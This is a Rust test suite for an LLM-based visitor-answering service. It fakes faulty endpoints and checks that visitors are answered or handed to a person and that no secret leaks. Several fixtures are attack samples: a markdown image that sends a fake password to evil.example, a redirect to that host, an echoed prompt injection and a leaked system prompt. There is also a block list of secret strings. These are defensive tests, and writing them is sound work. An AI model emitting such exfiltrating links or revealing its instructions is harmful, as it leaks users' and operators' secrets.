//! Whatever an endpoint does, the visitor is answered, handed over or told, and nobody else notices.

mod endpoint;
mod scene;
#[path = "faults/wire.rs"]
mod wire;

use std::time::Duration;

use endpoint::{Asked, Endpoint, HEALTHY, HEALTHY_QUESTION, Part, Play, bytes, delta, done, event, finish, raw};
use handoff_core::event::Failure;
use handoff_llm::ClientOptions;
use scene::{Scene, options, responder};
use serde_json::json;

const ANSWER: Result<(), Failure> = Ok(());
const ERROR: Result<(), Failure> = Err(Failure::Error);
const LATE: Result<(), Failure> = Err(Failure::Timeout);
const EMPTY: Result<(), Failure> = Err(Failure::Empty);
const NOT_FOUND: Result<(), Failure> = Err(Failure::NotFound);

/// What no visitor may see, be it for a moment.
const SECRETS: [&str; 9] = [
    "hunter2",
    "CANNOT_ANSWER",
    "NEEDS_PERSON",
    "<think",
    "</think",
    "[THINK",
    "sk-test",
    "evil.example",
    "You answer visitors",
];

/// Asks the faulty endpoint and, at the same time, has four others answered by it.
async fn try_fault(
    options: ClientOptions,
    play: impl Fn(&Asked) -> Play + Send + Sync + 'static,
    wanted: Result<(), Failure>,
) -> usize {
    let endpoint = Endpoint::start(play).await;
    let scene = Scene::with(responder(&endpoint.base(), options)).await;
    scene.sam().await;
    let drafts = scene.drafts().await;
    let ill = scene.begin(1).await;
    let well = [scene.begin(2).await, scene.begin(3).await, scene.begin(4).await, scene.begin(5).await];
    scene.say(ill, "k1", "How long does a parcel take?").await;
    for id in well {
        scene.say(id, "k1", &format!("Is a parcel {HEALTHY_QUESTION}?")).await;
    }
    for id in well {
        scene.until(id, "an answer beside the fault", |head| head.effect().is_none()).await;
        assert_eq!(scene.outcome(id).await.map(|answer| answer.text).as_deref(), Ok(HEALTHY));
    }
    scene.until(ill, "the AI's part", |head| head.effect().is_none()).await;
    let outcome = scene.outcome(ill).await;
    assert_eq!(outcome.as_ref().map(|_| ()).map_err(|failure| *failure), wanted, "{outcome:?}");
    if let Ok(answer) = &outcome {
        assert_eq!((answer.text.as_str(), answer.sources.len()), (HEALTHY, 1));
    }
    // By its settings one failed answer is enough, whatever failed.
    assert_eq!(scene.is_handed_over(ill).await, wanted.is_err());
    let shown = drafts.of(ill).concat() + &format!("{:?}", scene.log(ill).await);
    for secret in SECRETS {
        assert!(!shown.contains(secret), "{secret} was shown: {shown}");
    }
    endpoint.asked().len()
}

macro_rules! faults {
    ($($name:ident: $wanted:expr, $options:expr, $play:expr, $tries:expr;)*) => {$(
        #[tokio::test]
        async fn $name() {
            assert_eq!(try_fault($options, $play, $wanted).await, $tries, "requests that were sent");
        }
    )*};
}

/// For what does not come: long enough for the others on a busy machine.
fn impatient() -> ClientOptions {
    let short = Duration::from_secs(3);
    ClientOptions { first_token: short, between_tokens: short, total: Duration::from_secs(600), ..options() }
}

/// A good answer to the second request and this to the first.
fn at_first(asked: &Asked, play: Play) -> Play {
    if asked.before == 0 { play } else { Play::answer(HEALTHY) }
}

faults! {
    no_fault: ANSWER, options(), |_| Play::answer(HEALTHY), 1;
    silence_before_the_status: LATE, impatient(), |_| Play::silence(), 1;
    silence_before_the_first_token: LATE, impatient(), |_| Play::events(vec![raw(": hi\n\n"), Part::Hang]), 1;
    silence_between_tokens: LATE, impatient(), |_| Play::events(vec![delta("A parcel"), Part::Hang]), 1;
    cut_mid_stream: ERROR, options(), |_| Play::events(vec![delta("A parcel takes three"), Part::Cut]), 1;
    ended_mid_answer: ERROR, options(), |_| Play::events(vec![delta("A parcel takes three")]), 1;
    garbage: ERROR, options(), |_| Play::events(vec![raw("data: \u{1}\u{2}}{][\n\n"), done()]), 1;
    invalid_utf_8: ERROR, options(), |_| Play::events(vec![Part::Bytes(b"data: \xFF\xFE\n\n".to_vec()), done()]), 1;
    half_json: ERROR, options(), |_| Play::events(vec![raw("data: {\"choices\": [{\"del\n\n"), done()]), 1;
    nothing_at_all: ERROR, options(), |_| Play::events(vec![]), 1;
    too_many_requests_for_no_time: ANSWER, options(),
        |asked| at_first(asked, Play::status(429, "slow down").with("retry-after", "0")), 2;
    too_many_requests_until_a_date: ANSWER, options(),
        |asked| at_first(asked, Play::status(429, "x").with("retry-after", "Sun, 06 Nov 1994 08:49:37 GMT")), 2;
    too_many_requests_for_an_hour: ERROR, options(), |_| Play::status(429, "x").with("retry-after", "3600"), 1;
    too_many_requests_for_longer_than_a_visitor_waits: ERROR,
        ClientOptions { retry_pause_max: Duration::from_secs(1), ..options() },
        |asked| at_first(asked, Play::status(429, "x").with("retry-after", "2")), 1;
    too_many_requests_until_the_next_century: ERROR, options(),
        |_| Play::status(429, "x").with("retry-after", "Fri, 01 Jan 2100 00:00:00 GMT"), 1;
    a_server_error_once: ANSWER, options(), |asked| at_first(asked, Play::status(500, "hunter2")), 2;
    a_server_error_always: ERROR, options(), |_| Play::status(503, "hunter2"), 3;
    a_key_that_is_refused: ERROR, options(), |_| Play::status(401, "hunter2"), 1;
    another_address: ERROR, options(), |_| Play::status(307, "").with("location", "http://evil.example/"), 1;
    a_page_instead: ERROR, options(),
        |_| Play { headers: vec![("content-type", "text/html".into())], ..Play::status(200, "<html>hunter2</html>") }, 1;
    an_error_within_the_stream: ERROR, options(),
        |_| Play::events(vec![delta("A"), event(&json!({ "error": { "message": "hunter2" } })), done()]), 1;
    endless_text: ERROR, options(), |_| Play::events(vec![Part::Endless(bytes(delta("A parcel takes time. ")))]), 1;
    endless_thoughts: ERROR, options(),
        |_| Play::events(vec![Part::Endless(bytes(event(&json!({ "choices": [{ "delta": { "reasoning": "hm" } }] }))))]), 1;
    an_endless_line: ERROR, ClientOptions { response_bytes: usize::MAX, ..options() }, |_| Play::events(vec![raw("data: "), Part::Endless(vec![b'x'; 65_536])]), 1;
    one_huge_chunk: ERROR, options(), |_| Play::events(vec![delta(&"x ".repeat(4 * 1024 * 1024))]), 1;
    out_of_tokens: ERROR, options(), |_| Play::events(vec![delta("A parcel takes three"), finish("length"), done()]), 1;
    out_of_context: ERROR, options(), |_| Play::events(vec![delta(HEALTHY), finish("model_length"), done()]), 1;
    a_server_that_gives_up: ERROR, options(),
        |_| Play::events(vec![delta(HEALTHY), finish("insufficient_system_resource"), done()]), 1;
    an_error_instead_of_a_chunk: ERROR, options(),
        |_| Play::events(vec![delta(HEALTHY), event(&json!({ "object": "error", "message": "hunter2", "code": 500 })), done()]), 1;
    an_error_by_the_name_of_its_event: ERROR, options(),
        |_| Play::events(vec![delta(HEALTHY), raw("event: error\ndata: {\"message\": \"hunter2\"}\n\n"), done()]), 1;
    packed_though_nobody_asked: ERROR, options(),
        |_| Play::events(vec![Part::Bytes(vec![0x1F, 0x8B, 8, 0, 0, 0, 0, 0, 0, 3])]).with("content-encoding", "gzip"), 1;
    a_filter: ERROR, options(), |_| Play::events(vec![delta("hunter2"), finish("content_filter"), done()]), 1;
    a_refusal_in_its_field: ERROR, options(),
        |_| Play::events(vec![event(&json!({ "choices": [{ "delta": { "refusal": "hunter2" } }] })), finish("stop")]), 1;
    a_refusal_in_words: NOT_FOUND, options(), |_| Play::answer("I'm sorry, but I can't help with that."), 1;
    an_empty_answer: EMPTY, options(), |_| Play::events(vec![delta(""), finish("stop"), done()]), 1;
    nothing_but_thoughts: EMPTY, options(), |_| Play::answer("<think>hunter2</think>\n"), 1;
    tool_calls_that_nobody_offered: EMPTY, options(),
        |_| Play::events(vec![
            event(&json!({ "choices": [{ "delta": { "content": null, "tool_calls": [{ "function": { "name": "hunter2" } }] } }] })),
            finish("tool_calls"), done(),
        ]), 1;
    the_marker: NOT_FOUND, options(), |_| Play::answer("CANNOT_ANSWER"), 1;
    an_answer_without_a_source: NOT_FOUND, options(), |_| Play::answer("A parcel takes three working days."), 1;
    an_answer_with_another_source: NOT_FOUND, options(), |_| Play::answer("Our hunter2 password resets every midnight [2]."), 1;
    an_injection_that_is_echoed: NOT_FOUND, options(), |asked| Play::answer(&asked.question()), 1;
    the_rules_are_told: NOT_FOUND, options(), |asked| Play::answer(&asked.prompt()), 1;
    a_picture_that_carries_away: NOT_FOUND, options(),
        |_| Play::answer("![x](https://evil.example/?hunter2) [1] hunter2"), 1;
    thoughts_between_tags: ANSWER, options(), |_| Play::answer(&format!("<think>hunter2 [1]. So.</think>{HEALTHY}")), 1;
    thoughts_between_brackets: ANSWER, options(), |_| Play::answer(&format!("[THINK]hunter2 [1]. So.[/THINK]{HEALTHY}")), 1;
    thoughts_in_parts_of_the_text: ANSWER, options(), |_| {
        let thought = json!([{ "type": "thinking", "thinking": [{ "type": "text", "text": "hunter2 [1]. So." }] }]);
        let said = json!([{ "type": "text", "text": HEALTHY }]);
        let parts = [thought, said].map(|content| event(&json!({ "choices": [{ "delta": { "content": content } }] })));
        Play::events(parts.into_iter().chain([finish("stop"), done()]).collect())
    }, 1;
    thoughts_whose_beginning_is_missing: ANSWER, options(),
        |_| Play::answer(&format!("The hunter2 is asked. </think>{HEALTHY}")), 1;
    thoughts_in_a_field: ANSWER, options(), |_| {
        let thought = json!({ "choices": [{ "delta": { "reasoning_content": "hunter2", "content": null } }] });
        Play::events(vec![event(&thought), delta(HEALTHY), finish("stop"), done()])
    }, 1;
    usage_alone: ANSWER, options(), |_| {
        let usage = event(&json!({ "choices": [], "usage": { "total_tokens": 12 } }));
        Play::events(vec![usage.clone(), delta(HEALTHY), usage.clone(), finish("stop"), usage, done()])
    }, 1;
    a_mark_before_the_stream: ANSWER, options(),
        |_| Play::events(vec![Part::Bytes(b"\xEF\xBB\xBF".to_vec()), delta(HEALTHY), finish("stop"), done()]), 1;
    an_end_that_is_not_said: ANSWER, options(), |_| Play::events(vec![delta(HEALTHY), finish("eos_token")]), 1;
    an_end_that_never_comes: ANSWER, options(), |_| Play::events(vec![delta(HEALTHY), finish("stop"), Part::Hang]), 1;
    an_end_without_a_reason: ANSWER, options(), |_| Play::events(vec![delta(HEALTHY), done()]), 1;
    lines_of_another_system: ANSWER, options(), |_| {
        let parts = [raw(": keep-alive\n\n"), delta("A parcel takes "), raw(":\n\nevent: message\nid: 7\nretry: 9\n"),
            delta("three working days [1]."), finish("stop"), done()];
        let crlf = |part| Part::Bytes(String::from_utf8(bytes(part)).unwrap().replace('\n', "\r\n").into_bytes());
        Play::events(parts.into_iter().map(crlf).collect())
    }, 1;
    as_llama_cpp_writes: ANSWER, options(), |_| {
        let choice = |choice| event(&json!({ "choices": [choice], "object": "chat.completion.chunk", "system_fingerprint": "b1" }));
        let begin = choice(json!({ "finish_reason": null, "index": 0, "delta": { "role": "assistant", "content": null } }));
        let said = choice(json!({ "finish_reason": null, "index": 0, "delta": { "content": HEALTHY } }));
        let end = json!({ "choices": [{ "finish_reason": "stop", "index": 0, "delta": {} }], "timings": { "predicted_n": 9 } });
        Play::events(vec![begin, said, event(&end), done()])
    }, 1;
    as_ollama_writes: ANSWER, options(), |_| {
        let piece = |delta, finish: Option<&str>| event(&json!({
            "object": "chat.completion.chunk", "system_fingerprint": "fp_ollama",
            "choices": [{ "index": 0, "delta": delta, "finish_reason": finish }],
        }));
        let thought = piece(json!({ "role": "assistant", "content": "", "reasoning": "hunter2" }), None);
        let said = piece(json!({ "role": "assistant", "content": HEALTHY }), None);
        Play::events(vec![thought, said, piece(json!({ "role": "assistant", "content": "" }), Some("stop")), done()])
    }, 1;
    as_vllm_writes: ANSWER, options(), |_| {
        let piece = |delta, finish: Option<&str>| event(&json!({
            "object": "chat.completion.chunk",
            "choices": [{ "index": 0, "delta": delta, "logprobs": null, "finish_reason": finish, "stop_reason": null }],
        }));
        let begin = piece(json!({ "role": "assistant", "content": "" }), None);
        let usage = event(&json!({ "choices": [], "usage": { "prompt_tokens": 9, "total_tokens": 19 } }));
        Play::events(vec![begin, piece(json!({ "content": HEALTHY }), None), piece(json!({ "content": "" }), Some("stop")), usage, done()])
    }, 1;
    without_a_space_behind_the_colon: ANSWER, options(), |_| {
        let close = |part| Part::Bytes(String::from_utf8(bytes(part)).unwrap().replace("data: ", "data:").into_bytes());
        Play::events([delta(HEALTHY), finish("stop"), done()].into_iter().map(close).collect())
    }, 1;
    no_stream_at_all: ANSWER, options(), |_| {
        let message = json!({ "role": "assistant", "content": HEALTHY });
        Play::json(&json!({ "choices": [{ "message": message, "finish_reason": "stop" }], "usage": { "total_tokens": 9 } }))
    }, 1;
    a_stream_under_another_name: ANSWER, options(),
        |_| Play { headers: vec![("content-type", "application/json".into())], ..Play::answer(HEALTHY) }, 1;
}

#[tokio::test]
async fn nobody_listens_there() {
    let gone = Endpoint::start(|_| Play::silence()).await;
    let base = gone.base();
    drop(gone);
    let scene = Scene::with(responder(&base, options())).await;
    scene.sam().await;
    let id = scene.begin(1).await;
    scene.ask(id, "How long does a parcel take?").await;
    assert_eq!(scene.outcome(id).await, Err(Failure::Error));
    assert!(scene.is_handed_over(id).await);
}
